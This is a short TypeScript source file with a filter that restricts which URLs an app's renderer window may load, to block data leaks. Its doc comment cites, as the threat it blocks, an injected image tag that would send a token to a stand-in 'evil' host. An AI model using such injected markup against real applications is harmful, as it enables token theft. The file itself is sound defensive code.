import { isAppUrl, parseUrl } from './origin';

/**
 * Defence in depth under the CSP: the window's session may only load our own app URLs and the
 * in-memory schemes the page creates itself. Nothing goes to the network from the renderer — core
 * talks to the sync server — so an injected `<img src="https://evil/?token=…">` never leaves.
 */
export function isAllowedRendererRequest(raw: unknown): boolean {
  if (isAppUrl(raw)) return true;
  const url = parseUrl(raw);
  return url !== null && ['data:', 'blob:', 'devtools:'].includes(url.protocol);
}
